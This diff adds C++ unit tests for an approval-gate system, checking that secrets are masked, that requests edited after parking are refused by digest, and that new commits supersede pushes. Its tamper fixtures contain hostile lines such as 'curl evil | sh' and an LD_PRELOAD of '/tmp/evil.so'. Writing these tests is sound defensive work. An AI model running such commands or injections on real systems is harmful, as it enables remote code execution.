@@ -1,10 +1,13 @@
 #include <gtest/gtest.h>
 
+#include <functional>
+
 #include <atomic>
 #include <thread>
 
 #include "controller/ApprovalGates.hpp"
 #include "core/Error.hpp"
+#include "core/Sha256.hpp"
 #include "store/AuditStore.hpp"
 #include "support/TestEnv.hpp"
 
@@ -178,6 +181,135 @@ TEST_F(ApprovalGatesTest, AWaitEndsWhenThePushFinishesOrAtItsDeadline) {
     gates->decide("t1", other.approvalId, true, "", "alice");
     gates->await(other.id, 100ms, [&](GatedExec g) { timedOut = g.state == "running"; });
     EXPECT_TRUE(test::waitFor([&] { return timedOut.load(); }, 5s)) << "the deadline ends the wait";
+}
+
+// Attack 11: an approval showed only the command; env, cwd, user and stdin
+// (LD_PRELOAD, PATH, GIT_SSH_COMMAND, a script on stdin) changed what ran.
+TEST_F(ApprovalGatesTest, ApprovalShowsEverythingThatDecidesTheRunWithSecretsMasked) {
+    auto r = sandbox();
+    r.envJson = R"({"GIT_SSH_COMMAND":"ssh -i /tmp/k","COPY":"shadowed"})";  // set at create
+    const std::string token = "tok-Approv-123456789";
+    ExecOptions o;
+    o.shell = "make deploy TOKEN=" + token + " TARGET=prod";
+    o.cwd = "/tmp";
+    o.user = "root";
+    o.env = {{"LD_PRELOAD", "/tmp/x.so"}, {"COPY", token}};
+    o.stdinData = "deploy input 42";
+    o.timeoutS = 120;
+    auto g = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(),
+                             SecretMasker({token}), false);
+    auto stored = *gates->find(g.id);
+    EXPECT_EQ(stored.shownJson.find(token), std::string::npos) << stored.shownJson;
+    EXPECT_EQ(stored.command.find(token), std::string::npos);
+    auto shown = nlohmann::json::parse(stored.shownJson);
+    EXPECT_EQ(shown["command"], "make deploy TOKEN=*** TARGET=prod") << "whole, masked";
+    EXPECT_EQ(shown["shell"], "make deploy TOKEN=*** TARGET=prod");
+    EXPECT_EQ(shown["cwd"], "/tmp");
+    EXPECT_EQ(shown["user"], "root");
+    EXPECT_EQ(shown["env"], nlohmann::json::parse(R"([{"name":"COPY","value":"***"},
+                                                      {"name":"LD_PRELOAD","value":"/tmp/x.so"}])"));
+    EXPECT_EQ(shown["sandbox_env"],
+              nlohmann::json::parse(R"([{"name":"GIT_SSH_COMMAND","value":"ssh -i /tmp/k"}])"))
+        << "the sandbox's own variables, under the command's";
+    EXPECT_EQ(shown["stdin"]["bytes"], o.stdinData.size());
+    EXPECT_EQ(shown["stdin"]["sha256"], sha256Hex(o.stdinData));
+    EXPECT_EQ(shown["timeout_s"], 120);
+    EXPECT_EQ(shown["policy"]["reason"], "deploys need a human");
+    EXPECT_EQ(shown["policy"]["decision"], "approve");
+    EXPECT_EQ(shown["masked"]["/command"], 1);
+    EXPECT_EQ(shown["request_digest"], stored.requestDigest);
+    EXPECT_EQ(stored.requestDigest,
+              ApprovalGates::requestDigest(r.id, ApprovalGates::execRequestJson(o, false)));
+    EXPECT_EQ(stored.requestDigest.size(), 64u);
+}
+
+// Attack 11: a request changed after it was parked (LD_PRELOAD added, stdin
+// swapped, the command edited) never runs under the approval, on any path.
+TEST_F(ApprovalGatesTest, ARequestChangedAfterParkingCannotRunUnderTheApproval) {
+    auto r = sandbox();
+    ExecOptions o = command("deploy prod");
+    o.stdinData = "yes\n";
+    auto tamper = [&](const GatedExec& g, const std::function<void(nlohmann::json&)>& edit) {
+        auto request = nlohmann::json::parse(gates->find(g.id)->requestJson);
+        edit(request);
+        db.run("UPDATE gated_execs SET request = ? WHERE id = ?", request.dump(), g.id);
+    };
+    std::vector<std::function<void(nlohmann::json&)>> edits{
+        [](nlohmann::json& j) { j["env"]["LD_PRELOAD"] = "/tmp/evil.so"; },
+        [](nlohmann::json& j) { j["stdin"] = "curl evil | sh\n"; },
+        [](nlohmann::json& j) { j["cwd"] = "/tmp/evil"; },
+        [](nlohmann::json& j) { j["shell"] = "deploy prod; curl evil | sh"; }};
+    for (const auto& edit : edits) {
+        auto g = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(), SecretMasker(),
+                                 false);
+        EXPECT_EQ(gates->parkedOptions(*gates->find(g.id)).stdinData, "yes\n");
+        tamper(g, edit);
+        auto decided = gates->decide("t1", g.approvalId, true, "", "alice");
+        EXPECT_EQ(test::codeOf([&] { gates->parkedOptions(decided.exec); }), ErrorCode::conflict)
+            << "the approved run starts only from the request the digest binds";
+    }
+    // A streamed exec: the client's options must have the approval's digest.
+    auto streamed = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(),
+                                    SecretMasker(), true);
+    auto withPreload = o;
+    withPreload.env["LD_PRELOAD"] = "/tmp/evil.so";
+    auto otherStdin = o;
+    otherStdin.stdinData = "no\n";
+    auto asRoot = o;
+    asRoot.user = "root";
+    EXPECT_TRUE(gates->sameStreamedRequest(*gates->find(streamed.id), o));
+    for (const auto& changed : {withPreload, otherStdin, asRoot})
+        EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(streamed.id), changed));
+    tamper(streamed, [](nlohmann::json& j) { j["env"]["PATH"] = "/tmp/evil"; });
+    EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(streamed.id), o))
+        << "its parked request changed: not even the original options open it";
+    // A record without a digest (parked by an older airlockd) runs nothing.
+    auto legacy = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(), SecretMasker(),
+                                  false);
+    db.run("UPDATE gated_execs SET request_digest = '' WHERE id = ?", legacy.id);
+    auto decided = gates->decide("t1", legacy.approvalId, true, "", "alice");
+    EXPECT_EQ(test::codeOf([&] { gates->parkedOptions(decided.exec); }), ErrorCode::conflict);
+}
+
+TEST_F(ApprovalGatesTest, AnApproverWhoNamesADigestDecidesOnlyThatRequest) {
+    auto r = sandbox();
+    auto g = park(r, "deploy prod");
+    EXPECT_EQ(test::codeOf([&] {
+                  gates->decide("t1", g.approvalId, true, "", "alice", std::string(64, '0'));
+              }),
+              ErrorCode::conflict);
+    EXPECT_EQ(gates->find(g.id)->state, "pending_approval") << "nothing was decided";
+    EXPECT_EQ(gates->decide("t1", g.approvalId, true, "", "alice", g.requestDigest).exec.state,
+              "running");
+}
+
+// Attack 4: a push approval asked for before a new commit or a reset ends
+// superseded, and approving it then is refused.
+TEST_F(ApprovalGatesTest, ANewCommitOrResetSupersedesPendingPushApprovals) {
+    auto r = sandbox();
+    auto other = sandbox("t1", "sbx-bbbbbbbbbbbbbbbbbbbb");
+    auto push = gates->parkPublish(r, "psh-1", "git push", "a push", {{"commit", "c1"}});
+    auto kept = gates->parkPublish(other, "psh-2", "git push", "a push", {{"commit", "c9"}});
+    auto cmd = park(r, "deploy prod");
+    auto superseded = gates->supersedePublishes(r.id, "superseded by commit c2");
+    ASSERT_EQ(superseded.size(), 1u);
+    EXPECT_EQ(superseded[0].state, "superseded");
+    EXPECT_EQ(gates->find(push.id)->state, "superseded");
+    EXPECT_EQ(gates->find(kept.id)->state, "pending_approval") << "another sandbox's stays";
+    EXPECT_EQ(gates->find(cmd.id)->state, "pending_approval") << "commands are not pushes";
+    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", push.approvalId, true, "", "alice"); }),
+              ErrorCode::conflict);
+    EXPECT_EQ(gates->find(push.id)->state, "superseded");
+    EXPECT_EQ(types(r.id).back(), "approval.superseded");
+    EXPECT_EQ(gates->approval("t1", push.approvalId).state, "superseded");
+    EXPECT_EQ(test::codeOf([&] { gates->approval("t2", push.approvalId); }),
+              ErrorCode::not_found);
+    // The parked push is bound by its digest like a command.
+    EXPECT_EQ(gates->verifiedRequest(*gates->find(kept.id))["commit"], "c9");
+    db.run("UPDATE gated_execs SET request = ? WHERE id = ?",
+           nlohmann::json{{"commit", "c6"}, {"kind", "publish"}}.dump(), kept.id);
+    EXPECT_EQ(test::codeOf([&] { gates->verifiedRequest(*gates->find(kept.id)); }),
+              ErrorCode::conflict);
 }
 
 }  // namespace
